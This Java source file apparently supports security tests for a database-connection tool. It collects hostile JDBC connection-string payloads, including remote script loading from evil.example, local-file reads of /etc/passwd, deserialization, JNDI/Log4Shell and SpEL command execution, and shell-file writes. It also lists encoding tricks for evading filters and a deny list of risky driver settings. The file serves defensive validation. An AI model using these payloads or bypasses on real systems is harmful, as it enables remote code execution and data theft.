package studio.marquee.connect.source;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** What has been published about misleading database drivers, and ways to write it differently. */
final class HostilePayloads {
  private HostilePayloads() {}

  /** One family for each way into a driver that somebody has found. */
  static List<String> families() {
    return List.of(
        "mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/a.sql'",
        "mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS X AS '$$void x(){}$$'",
        "mem:x;init=create trigger t before select on information_schema.tables as '//javascript'",
        "tcp://evil.example/~/x;IFEXISTS=FALSE",
        "jdbc:h2:mem:x;FORBID_CREATION=FALSE",
        "marts?allowLoadLocalInfile=true&allowUrlInLocalInfile=true",
        "marts?allowLoadLocalInfileInPath=/&maxAllowedPacket=655360",
        "marts?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.X",
        "marts?detectCustomCollations=true&autoDeserialize=yes",
        "marts?statementInterceptors=com.mysql.jdbc.interceptors.ServerStatusDiffInterceptor",
        "marts?socketFactory=com.mysql.cj.protocol.NamedPipeSocketFactory&namedPipePath=/etc/passwd",
        "marts?propertiesTransform=evil.Transform",
        "evil.example:3306)/x?(allowLoadLocalInfile=true",
        "(host=evil.example,port=3306,allowLoadLocalInfile=true)",
        "address=(host=evil.example)(allowLoadLocalInfile=true)",
        "marts#allowLoadLocalInfile=true",
        "marts?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
            + "&socketFactoryArg=http://evil.example/a.xml",
        "marts?sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext",
        "marts?authenticationPluginClassName=evil.Plugin",
        "marts?sslhostnameverifier=evil.Verifier&sslpasswordcallback=evil.Callback",
        "marts?jaasApplicationName=x&gsslib=evil",
        "marts?loggerLevel=TRACE&loggerFile=/var/www/shell.jsp",
        "marts?preferQueryMode=simple",
        "marts?options=-c%20log_destination=csvlog",
        "marts&service=evil&PGSERVICEFILE=/etc/passwd",
        "marts:traceFile=/etc/cron.d/x;traceLevel=-1;",
        "marts:clientRerouteServerListJNDIName=ldap://evil.example/a;",
        "marts:pluginName=evil;securityMechanism=15;",
        "marts;authenticationScheme=JavaKerberos;jaasConfigurationName=x",
        "marts;trustStore=\\\\evil.example\\share\\a;trustManagerClass=evil.Manager",
        "marts;socketFactoryClass=evil.Factory;socketFactoryConstructorArg=x",
        "?tracing=ALL&JAVA_LOGGING_CONSOLE_STD_OUT=true&private_key_file=/etc/passwd",
        "evil.example/?authenticator=externalbrowser&proxyHost=evil.example&useProxy=true",
        ";httpPath=/;AllowSelfSignedCerts=1;LogPath=/var/www;LogLevel=6",
        ";AuthMech=1;KrbRealm=evil;JWTKeyFile=/etc/passwd;UseJWTAssertion=1",
        "marts?SSLTrustStorePath=/etc/passwd&SSLVerification=NONE",
        "marts?IniFile=/etc/passwd&plugin_name=evil.Plugin",
        "(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=evil.example)(PORT=1521)))",
        "marts?TNS_ADMIN=//evil.example/share&oracle.net.wallet_location=/x",
        "marts?custom_http_params=x&socket_factory=evil.Factory",
        "memory:x;create=true;traceFile=/var/www/a",
        ";startMaster=true;slaveHost=evil.example",
        "ldap://evil.example:1389/o=reference",
        "rmi://evil.example:1099/x",
        "file:///etc/passwd?x=",
        "http://169.254.169.254/latest/meta-data/",
        "x'; drop table people; --",
        "${jndi:ldap://evil.example/a}",
        "#{T(java.lang.Runtime).getRuntime().exec('id')}");
  }

  /** Ways to write a text so that one program reads it as another does not. */
  static Map<String, UnaryOperator<String>> encodings() {
    Map<String, UnaryOperator<String>> ways = new LinkedHashMap<>();
    ways.put("as it is", text -> text);
    ways.put("capitals", text -> text.toUpperCase(Locale.ROOT));
    ways.put("small letters", text -> text.toLowerCase(Locale.ROOT));
    ways.put("mixed case", HostilePayloads::mixed);
    ways.put("percent", HostilePayloads::percent);
    ways.put("percent twice", text -> percent(percent(text)));
    ways.put("percent thrice", text -> percent(percent(percent(text))));
    ways.put("every letter in percent", text -> each(text, "%%%02x"));
    ways.put("percent in capitals", text -> each(text, "%%%02X"));
    ways.put("percent u", text -> each(text, "%%u%04x"));
    ways.put("overlong percent", text -> signs(text, sign -> "%%c0%%%02x".formatted(sign | 0x80)));
    ways.put("escapes of Java", text -> each(text, "\\u%04x"));
    ways.put("escapes of signs", text -> signs(text, "\\u%04x"::formatted));
    ways.put("hexadecimal escapes", text -> signs(text, "\\x%02x"::formatted));
    ways.put("octal escapes", text -> signs(text, "\\%03o"::formatted));
    ways.put("entities", text -> signs(text, "&#%d;"::formatted));
    ways.put("hexadecimal entities", text -> signs(text, "&#x%x;"::formatted));
    ways.put(
        "fullwidth",
        text -> text.chars().mapToObj(HostilePayloads::wide).reduce("", String::concat));
    ways.put("fullwidth signs", text -> signs(text, HostilePayloads::wide));
    ways.put("look-alike signs", HostilePayloads::alike);
    ways.put("look-alike letters", text -> text.replace('a', 'а').replace('e', 'е'));
    ways.put("zero width between", text -> String.join("\u200b", text.split("")));
    ways.put("soft hyphens", text -> String.join("\u00ad", text.split("")));
    ways.put("marks on top", text -> text.replaceAll("([?;&=])", "$1\u0301"));
    ways.put("right to left", text -> "\u202e" + new StringBuilder(text).reverse());
    ways.put("byte order mark", text -> "\ufeff" + text);
    ways.put("NUL before", text -> "marts\0" + text);
    ways.put("NUL behind", text -> text + "\0.duckdb");
    ways.put("line feed before", text -> "marts\n" + text);
    ways.put("carriage return and line feed", text -> "marts\r\n" + text);
    ways.put("line separator", text -> "marts\u2028" + text);
    ways.put("next line", text -> "marts\u0085" + text);
    ways.put("tab before", text -> "\t" + text);
    ways.put("tab for signs", text -> text.replace("=", "\t=\t"));
    ways.put("bell and backspace", text -> "marts\u0007\b" + text);
    ways.put("blanks around", text -> "  " + text + "  ");
    ways.put("wide blanks", text -> "\u3000" + text + "\u00a0");
    ways.put("backslash before signs", text -> text.replaceAll("([?;&=:/])", "\\\\$1"));
    ways.put("slashes turned", text -> text.replace('/', '\\') + "\\");
    ways.put("semicolons for ampersands", text -> text.replace('&', ';').replace('?', ';'));
    ways.put("ampersands for semicolons", text -> text.replace(';', '&'));
    ways.put("in quotes", text -> "\"" + text + "\"");
    ways.put("in backticks", text -> "`" + text + "`");
    ways.put("behind a good name", text -> "marts" + ";" + text);
    ways.put("behind an at", text -> "marts@" + text);
    ways.put("in comments", text -> "/**/" + text.replace(" ", "/**/"));
    ways.put("in base64", HostilePayloads::base64);
    ways.put("half a letter", text -> "\ud800" + text);
    return ways;
  }

  private static String mixed(String text) {
    StringBuilder mixed = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      String letter = text.substring(i, i + 1);
      mixed.append(i % 2 == 0 ? letter.toUpperCase(Locale.ROOT) : letter.toLowerCase(Locale.ROOT));
    }
    return mixed.toString();
  }

  private static String percent(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static String each(String text, String form) {
    StringBuilder written = new StringBuilder();
    text.chars().forEach(letter -> written.append(form.formatted(letter)));
    return written.toString();
  }

  private interface Sign {
    String written(int letter);
  }

  private static String signs(String text, Sign form) {
    StringBuilder written = new StringBuilder();
    text.chars()
        .forEach(letter ->
            written.append(
                Character.isLetterOrDigit(letter)
                    ? Character.toString(letter)
                    : form.written(letter)));
    return written.toString();
  }

  private static String wide(int letter) {
    return Character.toString(letter > 0x20 && letter < 0x7f ? letter + 0xfee0 : letter);
  }

  private static String alike(String text) {
    return text.replace(';', '\u037e')
            .replace('/', '\u2215')
            .replace('?', '\u0294')
            .replace('=', '\ua78a')
            .replace(':', '\ua789')
            .replace('&', '\ufe60')
            .replace('#', '\ufe5f')
            .replace('(', '\u2768')
            .replace('$', '\ufe69')
            .replace('\'', '\u02bc')
        + "\u2024";
  }

  private static String base64(String text) {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    return "base64:" + Base64.getEncoder().encodeToString(bytes) + "=";
  }

  /** Settings by which drivers load classes, read files or trust anybody. */
  static List<String> settings() {
    List<String> settings = new ArrayList<>();
    Stream.of(
            "allowLoadLocalInfile allowUrlInLocalInfile allowLoadLocalInfileInPath autoDeserialize"
                .split(" "),
            "queryInterceptors statementInterceptors exceptionInterceptors socketFactory"
                .split(" "),
            "propertiesTransform detectCustomCollations loadBalanceStrategy profilerEventHandler"
                .split(" "),
            "sslfactory sslfactoryarg socketFactoryArg sslhostnameverifier sslpasswordcallback"
                .split(" "),
            "authenticationPluginClassName xmlFactoryFactory loggerFile loggerLevel service"
                .split(" "),
            "sslmode sslrootcert sslcert sslkey jaasApplicationName gsslib kerberosServerName"
                .split(" "),
            "preferQueryMode options localSocketAddress replication channelBinding user password"
                .split(" "),
            "INIT TRACE_LEVEL_FILE traceFile traceLevel clientRerouteServerListJNDIName".split(" "),
            "trustStore trustManagerClass trustServerCertificate hostNameInCertificate".split(" "),
            "tracing private_key_file proxyHost useProxy JAVA_LOGGING_CONSOLE_STD_OUT".split(" "),
            "LogPath LogLevel AllowSelfSignedCerts JWTKeyFile SSLTrustStorePath SSLVerification"
                .split(" "),
            "IniFile plugin_name TNS_ADMIN oracle.net.wallet_location allowLocalInfile".split(" "),
            "serverSslCert serverRsaPublicKeyFile allowMultiQueries sessionVariables initSql"
                .split(" "),
            "connectionInitSql customHttpParams socket_factory accessToken KeyStorePath".split(" "))
        .forEach(words -> settings.addAll(List.of(words)));
    return settings;
  }
}
